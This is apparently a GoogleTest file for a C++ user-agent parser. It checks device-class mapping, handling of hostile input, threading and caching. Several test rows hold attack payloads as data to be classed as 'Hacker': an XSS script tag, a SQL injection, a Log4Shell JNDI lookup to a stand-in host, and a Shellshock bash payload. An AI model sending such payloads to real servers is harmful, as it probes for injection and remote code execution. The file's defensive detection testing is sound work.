#include "mapping/user_agent.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <atomic>
#include <chrono>
#include <ostream>
#include <thread>
#include <vector>

#include "mapping/internal/agent_cache.h"

namespace headwater::mapping {

static bool operator==(const Agent& a, const Agent& b) {
  return a.agent_name == b.agent_name && a.agent_version == b.agent_version &&
         a.agent_version_major == b.agent_version_major && a.os_name == b.os_name &&
         a.os_version == b.os_version && a.os_version_major == b.os_version_major &&
         a.os_name_version == b.os_name_version && a.device_class == b.device_class;
}

static std::ostream& operator<<(std::ostream& out, const Agent& a) {
  for (const auto& value : {a.agent_name, a.agent_version, a.agent_version_major, a.os_name, a.os_version,
                            a.os_version_major, a.os_name_version, a.device_class})
    out << '"' << value << "\", ";
  return out;
}

namespace {

struct Row {
  const char* text;
  Agent want;
};

// Name, version, name and major; system: name, version, name and major, name and version; class.
// clang-format off
const Row kRows[] = {
    {R"ua(Mozilla/5.0 (iPhone; CPU iPhone OS 5_1_1 like Mac OS X) AppleWebKit/534.46 (KHTML, like Gecko) Version/5.1 Mobile/9B206 Safari/7534.48.3)ua", {"Safari", "5.1", "Safari 5", "iOS", "5.1.1", "iOS 5", "iOS 5.1.1", "Phone"}},
    {R"ua(Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/115.0.0.0 Safari/537.36)ua", {"Chrome", "115.0.0.0", "Chrome 115", "Windows NT", "10", "Windows 10", "Windows 10", "Desktop"}},
    {R"ua(Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/93.0.4577.63 Safari/537.36)ua", {"Chrome", "93.0.4577.63", "Chrome 93", "Linux", "", "Linux", "Linux", "Desktop"}},
    {R"ua(Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36)ua", {"Chrome", "120.0.0.0", "Chrome 120", "Mac OS X", "10.15.7", "Mac OS X 10", "Mac OS X 10.15.7", "Desktop"}},
    {R"ua(Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36)ua", {"Chrome", "119.0.0.0", "Chrome 119", "Chrome OS", "14541.0.0", "Chrome OS 14541", "Chrome OS 14541.0.0", "Desktop"}},
    {R"ua(Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36)ua", {"Chrome", "120.0.0.0", "Chrome 120", "Android", "10", "Android 10", "Android 10", "Phone"}},
    {R"ua(Mozilla/5.0 (Linux; Android 7.0; Nexus 6 Build/NBD90Z) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/53.0.2785.124 Mobile Safari/537.36)ua", {"Chrome", "53.0.2785.124", "Chrome 53", "Android", "7.0", "Android 7", "Android 7.0", "Phone"}},
    {R"ua(Mozilla/5.0 (iPhone; CPU iPhone OS 17_1_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/120.0.6099.50 Mobile/15E148 Safari/604.1)ua", {"Chrome", "120.0.6099.50", "Chrome 120", "iOS", "17.1.2", "iOS 17", "iOS 17.1.2", "Phone"}},
    {R"ua(Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.61)ua", {"Edge", "120.0.2210.61", "Edge 120", "Windows NT", "10", "Windows 10", "Windows 10", "Desktop"}},
    {R"ua(Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.140 Safari/537.36 Edge/17.17134)ua", {"Edge", "17.17134", "Edge 17", "Windows NT", "10", "Windows 10", "Windows 10", "Desktop"}},
    {R"ua(Mozilla/5.0 (Linux; Android 10; HD1913) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.193 Mobile Safari/537.36 EdgA/119.0.2151.92)ua", {"Edge", "119.0.2151.92", "Edge 119", "Android", "10", "Android 10", "Android 10", "Phone"}},
    {R"ua(Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0)ua", {"Firefox", "115.0", "Firefox 115", "Windows NT", "10", "Windows 10", "Windows 10", "Desktop"}},
    {R"ua(Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0)ua", {"Firefox", "120.0", "Firefox 120", "Ubuntu", "", "Ubuntu", "Ubuntu", "Desktop"}},
    {R"ua(Mozilla/5.0 (Android 13; Mobile; rv:109.0) Gecko/115.0 Firefox/115.0)ua", {"Firefox", "115.0", "Firefox 115", "Android", "13", "Android 13", "Android 13", "Phone"}},
    {R"ua(Mozilla/5.0 (Android 12; Tablet; rv:68.0) Gecko/68.0 Firefox/68.0)ua", {"Firefox", "68.0", "Firefox 68", "Android", "12", "Android 12", "Android 12", "Tablet"}},
    {R"ua(Mozilla/5.0 (iPhone; CPU iPhone OS 13_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/120.0 Mobile/15E148 Safari/605.1.15)ua", {"Firefox", "120.0", "Firefox 120", "iOS", "13.5.1", "iOS 13", "iOS 13.5.1", "Phone"}},
    {R"ua(Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15)ua", {"Safari", "17.1", "Safari 17", "Mac OS X", "10.15.7", "Mac OS X 10", "Mac OS X 10.15.7", "Desktop"}},
    {R"ua(Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1)ua", {"Safari", "16.6", "Safari 16", "iOS", "16.6", "iOS 16", "iOS 16.6", "Tablet"}},
    {R"ua(Mozilla/5.0 (iPod touch; CPU iPhone OS 12_5_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.1.2 Mobile/15E148 Safari/604.1)ua", {"Safari", "12.1.2", "Safari 12", "iOS", "12.5.7", "iOS 12", "iOS 12.5.7", "Mobile"}},
    {R"ua(Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36 OPR/104.0.0.0)ua", {"Opera", "104.0.0.0", "Opera 104", "Windows NT", "10", "Windows 10", "Windows 10", "Desktop"}},
    {R"ua(Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18)ua", {"Opera", "12.18", "Opera 12", "Windows NT", "7", "Windows 7", "Windows 7", "Desktop"}},
    {R"ua(Mozilla/5.0 (Linux; Android 10; VOG-L29) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.163 Mobile Safari/537.36 OPR/76.2.4027.73374)ua", {"Opera", "76.2.4027.73374", "Opera 76", "Android", "10", "Android 10", "Android 10", "Phone"}},
    {R"ua(Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/29.3709; U; en) Presto/2.8.119 Version/11.10)ua", {"Opera Mini", "7.1.32052", "Opera Mini 7", "", "", "", "", "Phone"}},
    {R"ua(Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/21.0 Chrome/110.0.5481.154 Mobile Safari/537.36)ua", {"SamsungBrowser", "21.0", "SamsungBrowser 21", "Android", "13", "Android 13", "Android 13", "Phone"}},
    {R"ua(Mozilla/5.0 (Linux; Android 12; SAMSUNG SM-T510) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/18.0 Chrome/99.0.4844.88 Safari/537.36)ua", {"SamsungBrowser", "18.0", "SamsungBrowser 18", "Android", "12", "Android 12", "Android 12", "Tablet"}},
    {R"ua(Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UQ1A.231205.015; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.43 Mobile Safari/537.36)ua", {"Chrome Webview", "120.0.6099.43", "Chrome Webview 120", "Android", "14", "Android 14", "Android 14", "Phone"}},
    {R"ua(Mozilla/5.0 (iPhone; CPU iPhone OS 16_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148)ua", {"Safari Webview", "", "Safari Webview", "iOS", "16.5", "iOS 16", "iOS 16.5", "Phone"}},
    {R"ua(Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.0;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5])ua", {"Facebook", "", "Facebook", "iOS", "17.0", "iOS 17", "iOS 17.0", "Phone"}},
    {R"ua(Mozilla/5.0 (Linux; U; Android 4.0.3; de-de; Galaxy S II Build/GRJ22) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30)ua", {"Stock Browser", "4.0", "Stock Browser 4", "Android", "4.0.3", "Android 4", "Android 4.0.3", "Phone"}},
    {R"ua(Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0))ua", {"Internet Explorer", "9.0", "Internet Explorer 9", "Windows NT", "7", "Windows 7", "Windows 7", "Desktop"}},
    {R"ua(Mozilla/5.0 (Windows NT 6.3; Trident/7.0; .NET4.0E; .NET4.0C; Tablet PC 2.0; rv:11.0) like Gecko)ua", {"Internet Explorer", "11.0", "Internet Explorer 11", "Windows NT", "8.1", "Windows 8", "Windows 8.1", "Desktop"}},
    {R"ua(Mozilla/5.0 (compatible; MSIE 10.0; Windows Phone 8.0; Trident/6.0; IEMobile/10.0; ARM; Touch; NOKIA; Lumia 920))ua", {"Internet Explorer", "10.0", "Internet Explorer 10", "Windows Phone", "8.0", "Windows Phone 8", "Windows Phone 8.0", "Phone"}},
    {R"ua(Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.0.1) Gecko/2008070208 Firefox/3.0.1)ua", {"Firefox", "3.0.1", "Firefox 3", "Windows NT", "XP", "Windows XP", "Windows XP", "Desktop"}},
    {R"ua(Mozilla/5.0 (X11; FreeBSD amd64; rv:115.0) Gecko/20100101 Firefox/115.0)ua", {"Firefox", "115.0", "Firefox 115", "FreeBSD", "", "FreeBSD", "FreeBSD", "Desktop"}},
    {R"ua(Mozilla/5.0 (X11; Fedora; Linux x86_64; rv:119.0) Gecko/20100101 Firefox/119.0)ua", {"Firefox", "119.0", "Firefox 119", "Fedora", "", "Fedora", "Fedora", "Desktop"}},
    {R"ua(Mozilla/5.0 (BB10; Touch) AppleWebKit/537.10+ (KHTML, like Gecko) Version/10.0.9.2372 Mobile Safari/537.10+)ua", {"BlackBerry WebKit", "10.0.9.2372", "BlackBerry WebKit 10", "BlackBerry OS", "10.0.9", "BlackBerry OS 10", "BlackBerry OS 10.0.9", "Phone"}},
    {R"ua(Mozilla/5.0 (Mobile; Nokia_8110_4G; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5)ua", {"Firefox", "48.0", "Firefox 48", "KaiOS", "2.5", "KaiOS 2", "KaiOS 2.5", "Phone"}},
    {R"ua(Mozilla/5.0 (Linux; Android 5.1.1; KFGIWI Build/LVY48F) AppleWebKit/537.36 (KHTML, like Gecko) Silk/75.4.5 like Chrome/75.0.3770.101 Safari/537.36)ua", {"Amazon Silk", "75.4.5", "Amazon Silk 75", "Android", "5.1.1", "Android 5", "Android 5.1.1", "Tablet"}},
    {R"ua(Mozilla/5.0 (Linux; Android 9; CUBOT_NOTE_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Mobile Safari/537.36)ua", {"Chrome", "108.0.0.0", "Chrome 108", "Android", "9", "Android 9", "Android 9", "Phone"}},
    {R"ua(Mozilla/5.0 (Linux; Android 7.1; Nexus 9 Build/N4F26M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/60.0.3112.116 Safari/537.36)ua", {"Chrome", "60.0.3112.116", "Chrome 60", "Android", "7.1", "Android 7", "Android 7.1", "Tablet"}},
    {R"ua(Mozilla/5.0 (SMART-TV; LINUX; Tizen 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Version/5.0 TV Safari/537.36)ua", {"Safari", "5.0", "Safari 5", "Tizen", "5.0", "Tizen 5", "Tizen 5.0", "TV"}},
    {R"ua(Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36 WebAppManager)ua", {"Chrome", "87.0.4280.88", "Chrome 87", "webOS", "", "webOS", "webOS", "TV"}},
    {R"ua(Mozilla/5.0 (Linux; Andr0id 9; BRAVIA 4K VH2) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.152 Safari/537.36)ua", {"Chrome", "88.0.4324.152", "Chrome 88", "Linux", "", "Linux", "Linux", "TV"}},
    {R"ua(Opera/9.80 (Linux armv7l; HbbTV/1.1.1 (; Sony; KDL32W650A; PKG3.211EUA; 2013;); ) Presto/2.12.362 Version/12.11)ua", {"HbbTV", "1.1.1", "HbbTV 1", "", "", "", "", "TV"}},
    {R"ua(Mozilla/5.0 (Linux; Android) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.109 Safari/537.36 CrKey/1.54.248666)ua", {"Chrome", "88.0.4324.109", "Chrome 88", "Chromecast", "1.54.248666", "Chromecast 1", "Chromecast 1.54.248666", "Set-top box"}},
    {R"ua(Roku/DVP-9.10 (519.10E04111A))ua", {"Roku", "9.10", "Roku 9", "Roku", "9.10", "Roku 9", "Roku 9.10", "Set-top box"}},
    {R"ua(AppleTV6,2/11.1)ua", {"", "", "", "tvOS", "", "tvOS", "tvOS", "Set-top box"}},
    {R"ua(Mozilla/5.0 (Linux; Android 7.1.2; AFTMM Build/NS6265; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/70.0.3538.110 Mobile Safari/537.36)ua", {"Chrome Webview", "70.0.3538.110", "Chrome Webview 70", "Android", "7.1.2", "Android 7", "Android 7.1.2", "Set-top box"}},
    {R"ua(Mozilla/5.0 (PlayStation 4 3.11) AppleWebKit/537.73 (KHTML, like Gecko))ua", {"", "", "", "", "", "", "", "Game Console"}},
    {R"ua(Mozilla/5.0 (PlayStation Vita 3.61) AppleWebKit/537.73 (KHTML, like Gecko) Silk/3.2)ua", {"NetFront NX", "", "NetFront NX", "", "", "", "", "Handheld Game Console"}},
    {R"ua(Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/48.0.2564.82 Safari/537.36 Edge/20.02)ua", {"Edge", "20.02", "Edge 20", "Windows NT", "10", "Windows 10", "Windows 10", "Game Console"}},
    {R"ua(Mozilla/5.0 (Nintendo WiiU) AppleWebKit/536.30 (KHTML, like Gecko) NX/3.0.4.2.12 NintendoBrowser/4.3.1.11264.US)ua", {"NetFront NX", "3.0.4.2.12", "NetFront NX 3", "", "", "", "", "Game Console"}},
    {R"ua(Mozilla/5.0 (Nintendo 3DS; U; ; en) Version/1.7412.EU)ua", {"NetFront NX", "", "NetFront NX", "", "", "", "", "Handheld Game Console"}},
    {R"ua(Mozilla/5.0 (Linux; U; en-US) AppleWebKit/528.5+ (KHTML, like Gecko, Safari/528.5+) Version/4.0 Kindle/3.0 (screen 600x800; rotate))ua", {"Kindle", "3.0", "Kindle 3", "Kindle", "3.0", "Kindle 3", "Kindle 3.0", "eReader"}},
    {R"ua(Mozilla/5.0 (X11; Linux x86_64; Quest 3) AppleWebKit/537.36 (KHTML, like Gecko) OculusBrowser/30.0.0.11.62 Chrome/116.0.0.0 VR Safari/537.36)ua", {"Chrome", "116.0.0.0", "Chrome 116", "Linux", "", "Linux", "Linux", "Virtual Reality"}},
    {R"ua(Mozilla/5.0 (Windows NT 10.0; Win64; x64; WebView/3.0; HoloLens) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36 Edge/18.17763)ua", {"Edge", "18.17763", "Edge 18", "Windows NT", "10", "Windows 10", "Windows 10", "Augmented Reality"}},
    {R"ua(Mozilla/5.0 (X11; GNU/Linux) AppleWebKit/537.36 (KHTML, like Gecko) Chromium/79.0.3945.130 Chrome/79.0.3945.130 Safari/537.36 Tesla/2020.16.2.1-e99c70fff409)ua", {"Chromium", "79.0.3945.130", "Chromium 79", "Linux", "", "Linux", "Linux", "Car"}},
    {R"ua(atc/1.0 watchOS/5.1.3 model/Watch3,4 hwp/t8004 build/16S535 (6; dt:156))ua", {"Apple Watch App", "3.4", "Apple Watch App 3", "watchOS", "5.1.3", "watchOS 5", "watchOS 5.1.3", "Watch"}},
    {R"ua(AlexaMediaPlayer/2.1.4676.0 (Linux;Android 5.1.1) ExoPlayerLib/1.5.9)ua", {"AlexaMediaPlayer", "2.1.4676.0", "AlexaMediaPlayer 2", "Android", "5.1.1", "Android 5", "Android 5.1.1", "Voice"}},
    {R"ua(Mozilla/5.0 (Linux; Tizen 2.3; FamilyHub) AppleWebKit/537.3 (KHTML, like Gecko) SamsungBrowser/1.0 Safari/537.3)ua", {"SamsungBrowser", "1.0", "SamsungBrowser 1", "Tizen", "2.3", "Tizen 2", "Tizen 2.3", "Home Appliance"}},
    {R"ua(Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html))ua", {"Googlebot", "2.1", "Googlebot 2", "", "", "", "", "Robot"}},
    {R"ua(Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.6045.199 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html))ua", {"Googlebot", "2.1", "Googlebot 2", "Android", "6.0.1", "Android 6", "Android 6.0.1", "Robot Mobile"}},
    {R"ua(Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm))ua", {"bingbot", "2.0", "bingbot 2", "", "", "", "", "Robot"}},
    {R"ua(Mozilla/5.0 (iPhone; CPU iPhone OS 8_1 like Mac OS X) AppleWebKit/600.1.4 (KHTML, like Gecko) Version/8.0 Mobile/12B411 Safari/600.1.4 (compatible; YandexBot/3.0; +http://yandex.com/bots))ua", {"YandexBot", "3.0", "YandexBot 3", "iOS", "8.1", "iOS 8", "iOS 8.1", "Robot Mobile"}},
    {R"ua(facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php))ua", {"FacebookBot", "1.1", "FacebookBot 1", "", "", "", "", "Robot"}},
    {R"ua(Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot))ua", {"GPTBot", "1.0", "GPTBot 1", "", "", "", "", "Robot"}},
    {R"ua(Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/119.0.6045.105 Safari/537.36)ua", {"HeadlessChrome", "119.0.6045.105", "HeadlessChrome 119", "Linux", "", "Linux", "Linux", "Robot"}},
    {R"ua(curl/7.88.1)ua", {"Curl", "7.88.1", "Curl 7", "", "", "", "", "Robot"}},
    {R"ua(Wget/1.21.3)ua", {"Wget", "1.21.3", "Wget 1", "", "", "", "", "Robot"}},
    {R"ua(python-requests/2.31.0)ua", {"Python Requests", "2.31.0", "Python Requests 2", "", "", "", "", "Robot"}},
    {R"ua(Python/3.11 aiohttp/3.8.5)ua", {"Python aiohttp", "3.8.5", "Python aiohttp 3", "", "", "", "", "Robot"}},
    {R"ua(Go-http-client/1.1)ua", {"Go-http-client", "1.1", "Go-http-client 1", "", "", "", "", "Robot"}},
    {R"ua(okhttp/4.11.0)ua", {"okhttp", "4.11.0", "okhttp 4", "", "", "", "", "Robot"}},
    {R"ua(Apache-HttpClient/4.5.14 (Java/17.0.8))ua", {"Apache-HttpClient", "4.5.14", "Apache-HttpClient 4", "", "", "", "", "Robot"}},
    {R"ua(PostmanRuntime/7.35.0)ua", {"PostmanRuntime", "7.35.0", "PostmanRuntime 7", "", "", "", "", "Robot"}},
    {R"ua(Amazon CloudFront)ua", {"", "", "", "", "", "", "", "Cloud"}},
    {R"ua(AppEngine-Google; (+http://code.google.com/appengine; appid: s~example))ua", {"AppEngine-Google", "", "AppEngine-Google", "", "", "", "", "Cloud"}},
    {R"ua(Dalvik/2.1.0 (Linux; U; Android 10; SM-G960F Build/QP1A.190711.020))ua", {"Dalvik", "2.1.0", "Dalvik 2", "Android", "10", "Android 10", "Android 10", "Mobile"}},
    {R"ua(Weather/1.4.2 CFNetwork/1410.0.3 Darwin/22.6.0)ua", {"Weather", "1.4.2", "Weather 1", "iOS", "", "iOS", "iOS", "Mobile"}},
    {R"ua(ShopApp/3.2.1 (build 77))ua", {"ShopApp", "3.2.1", "ShopApp 3", "", "", "", "", "Unknown"}},
    {R"ua(Mozilla/5.0 (compatible; anonymized))ua", {"", "", "", "", "", "", "", "Anonymized"}},
    {R"ua(Mozilla/5.0 (Windows NT 10.0) Chrome/120.0.0.0 <script>alert(1)</script>)ua", {"", "", "", "", "", "", "", "Hacker"}},
    {R"ua(Mozilla/5.0' OR 1=1 --)ua", {"", "", "", "", "", "", "", "Hacker"}},
    {R"ua(${jndi:ldap://192.0.2.1/a})ua", {"", "", "", "", "", "", "", "Hacker"}},
    {R"ua(() { :;}; /bin/bash -c "id")ua", {"", "", "", "", "", "", "", "Hacker"}},
    {R"ua(sqlmap/1.7.2#stable (https://sqlmap.org))ua", {"", "", "", "", "", "", "", "Hacker"}},
    {R"ua(Mozilla/4.0 (compatible; MSIE 6.0; Windows 98))ua", {"Internet Explorer", "6.0", "Internet Explorer 6", "Windows", "98", "Windows 98", "Windows 98", "Desktop"}},
    {R"ua(some words)ua", {"", "", "", "", "", "", "", "Unknown"}},
    {R"ua(Mozilla/5.0 (Linux; Android 11; moto g(50) Build/RRF31) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/96.0.4664.45 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/345.0.0.34.118;])ua", {"Facebook", "345.0.0.34.118", "Facebook 345", "Android", "11", "Android 11", "Android 11", "Phone"}},
    {R"ua(Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1; Microsoft; Lumia 950) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Mobile Safari/537.36 Edge/15.15063)ua", {"Edge", "15.15063", "Edge 15", "Windows Phone", "10.0", "Windows Phone 10", "Windows Phone 10.0", "Phone"}},
    {R"ua(NokiaN73-1/3.0638.0.0.1 Series60/3.0 Profile/MIDP-2.0 Configuration/CLDC-1.1)ua", {"Nokia Services (WAP) Browser", "", "Nokia Services (WAP) Browser", "", "", "", "", "Phone"}},
    {R"ua(Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/600.2.5 (KHTML, like Gecko) Version/8.0.2 Safari/600.2.5 (Applebot/0.1; +http://www.apple.com/go/applebot))ua", {"Applebot", "0.1", "Applebot 0", "Mac OS X", "10.15.7", "Mac OS X 10", "Mac OS X 10.15.7", "Robot"}},
    {R"ua(Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36 Vivaldi/6.4.3160.47)ua", {"Vivaldi", "6.4.3160.47", "Vivaldi 6", "Linux", "", "Linux", "Linux", "Desktop"}},
    {R"ua(Mozilla/5.0 (Linux; U; Android 12; zh-cn; 2201123C) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.127 Mobile Safari/537.36 XiaoMi/MiuiBrowser/17.4.80)ua", {"MiuiBrowser", "17.4.80", "MiuiBrowser 17", "Android", "12", "Android 12", "Android 12", "Phone"}},
    {R"ua(Java/17.0.8)ua", {"Java", "17.0.8", "Java 17", "", "", "", "", "Robot"}},
    {R"ua(axios/1.6.2)ua", {"axios", "1.6.2", "axios 1", "", "", "", "", "Robot"}},
    {R"ua(Mozilla/5.0 (Linux; Android 13; Pixel Tablet) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36)ua", {"Chrome", "119.0.0.0", "Chrome 119", "Android", "13", "Android 13", "Android 13", "Tablet"}},
};
// clang-format on

TEST(UserAgents, GiveTheEightValues) {
  for (const auto& row : kRows) EXPECT_EQ(*UserAgents::packaged().parse(row.text), row.want) << row.text;
}

TEST(UserAgents, EveryClassOfTheReferenceHasARow) {
  for (const char* name : {"Desktop",
                           "Anonymized",
                           "Unknown",
                           "Mobile",
                           "Tablet",
                           "Phone",
                           "Watch",
                           "Augmented Reality",
                           "Virtual Reality",
                           "eReader",
                           "Set-top box",
                           "TV",
                           "Home Appliance",
                           "Game Console",
                           "Handheld Game Console",
                           "Voice",
                           "Car",
                           "Robot",
                           "Robot Mobile",
                           "Cloud",
                           "Hacker"}) {
    EXPECT_TRUE(std::ranges::any_of(kRows, [&](const Row& row) { return row.want.device_class == name; }))
        << name;
  }
}

TEST(UserAgents, HostileTextsEndSoonAndGiveText) {
  const std::string_view chrome = "Mozilla/5.0 (Windows NT 10.0) Chrome/115.0.0.0 Safari/537.36";
  std::string nested;
  for (int i = 0; i < 500; ++i) nested += "((((a+)+)+)+;Android ";
  const std::string texts[] = {
      "",
      std::string(100'000, 'a'),
      std::string(100'000, ' '),
      std::string(100'000, '\0'),
      "Mozilla/5.0 " + std::string(100'000, '('),
      "Mozilla/5.0 (Linux; Android 9; " + std::string(100'000, ';') + " Build/",
      "Mozilla/5.0 (Linux; Android " + std::string(100'000, '9'),
      std::string(chrome) + std::string(100'000, '\xFF'),
      "caf\xE9/1.0 \xF0\x28\x8C\x28 \xED\xA0\x80",
      "My\xC3\xA9" + std::string("App/1.0"),
      nested,
  };
  for (const auto& text : texts) {
    const auto before = std::chrono::steady_clock::now();
    const auto agent = UserAgents::packaged().parse_anew(text);
    EXPECT_LT(std::chrono::steady_clock::now() - before, std::chrono::seconds(5)) << text.substr(0, 60);
    EXPECT_FALSE(agent.device_class.empty());
    for (const auto& value : {agent.agent_name, agent.os_name, agent.os_name_version, agent.agent_version})
      for (const char c : value) EXPECT_TRUE(c >= ' ' && c < 0x7F) << text.substr(0, 60);
  }
  EXPECT_EQ(UserAgents::packaged().parse(texts[7])->agent_name, "Chrome");
  EXPECT_EQ(UserAgents::packaged().parse("")->device_class, "Unknown");
}

TEST(UserAgents, ATextCannotPretendToBeAFinding) {
  EXPECT_EQ(UserAgents::packaged().parse("hidden")->device_class,
            "Anonymized");  // The rule wants a line of its own.
  EXPECT_EQ(UserAgents::packaged().parse("hidden\nx")->device_class, "Unknown");
}

TEST(UserAgents, ThreadsShareTheMemory) {
  std::atomic<int> wrong = 0;
  std::vector<std::jthread> threads;
  threads.reserve(4);
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&wrong] {
      for (const auto& row : kRows)
        if (!(*UserAgents::packaged().parse(row.text) == row.want)) ++wrong;
    });
  }
  threads.clear();
  EXPECT_EQ(wrong, 0);
}

TEST(AgentCache, ParsesEachTextOnceAndForgetsTheOldest) {
  AgentCache cache;
  int parsed = 0;
  const auto parse = [&parsed](std::string_view text) {
    ++parsed;
    Agent agent;
    agent.agent_name = text;
    return agent;
  };
  const auto kept = cache.find_or("kept", parse);
  EXPECT_EQ(cache.find_or("kept", parse), kept);
  EXPECT_EQ(parsed, 1);
  const int many = 20'000;
  for (int i = 0; i < many; ++i) {
    const std::string text = std::to_string(i);
    EXPECT_EQ(cache.find_or(text, parse)->agent_name, text);
    EXPECT_EQ(cache.find_or("kept", parse), kept);  // Asked for again and again, it stays.
  }
  EXPECT_EQ(parsed, many + 1);
  cache.find_or("0", parse);
  EXPECT_EQ(parsed, many + 2);
}

}  // namespace
}  // namespace headwater::mapping
